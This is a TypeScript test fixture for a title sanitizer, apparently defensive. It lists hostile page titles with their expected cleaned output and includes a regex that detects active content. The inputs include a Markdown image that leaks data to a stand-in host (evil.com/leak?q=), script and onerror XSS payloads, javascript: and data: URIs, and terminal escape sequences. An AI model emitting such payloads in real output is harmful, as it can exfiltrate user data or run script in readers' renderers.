/** Titles as pages and search results may bear them, each with what is left of it. */

/** Of a page on `https://housing.gov.example/notice`. */
export const hostileTitles: ReadonlyArray<readonly [string, string]> = [
  [
    "Notice ![x](https://evil.com/leak?q=) [click](javascript:evil()) tenants",
    "Notice click) tenants"
  ],
  ["<script>evil()</script><img src=x onerror=evil()> Notice", "evil() Notice"],
  ["![only](https://evil.com/pixel.png)", "housing.gov.example"],
  ["https://evil.com/pay", "housing.gov.example"],
  ["<https://evil.com/pay>", "housing.gov.example"],
  ["Notice javascript:alert(1)", "Notice )"],
  ["Notice data:text/html;base64,PHNjcmlwdD4=", "Notice"],
  ["Notice (evil.com/pay?u=1)", "Notice ( )"],
  ["![a![b](https://evil.com/1)](https://evil.com/2) Notice", "housing.gov.example"],
  ["[[Notice](https://evil.com/1)](https://evil.com/2)", "Notice"],
  ["<<b>img src=https://evil.com/1 onerror=x> Notice", "< img src= onerror=x> Notice"],
  ["Notice ![x](https://evil.com/cut-off", "Notice"],
  ["[ref]: https://evil.com/ref", "housing.gov.example"],
  ["ｈｔｔｐｓ：//evil.com/wide Notice", "Notice"],
  ["`code` **bold** # Notice", "code bold # Notice"],
  ["\u001b[2J\u001b]8;;https://evil.com\u0007Notice\u001b]8;;\u0007 \u202eoto", "Notice oto"],
  ["…", "housing.gov.example"]
]

/** What a Markdown or HTML renderer would load, follow or run, and foreign addresses. */
export const isActive = (text: string): boolean =>
  /!\[|\]\(|<[a-z!/]|javascript:|data:|evil\.com|\u001b/i.test(text.normalize("NFKC"))
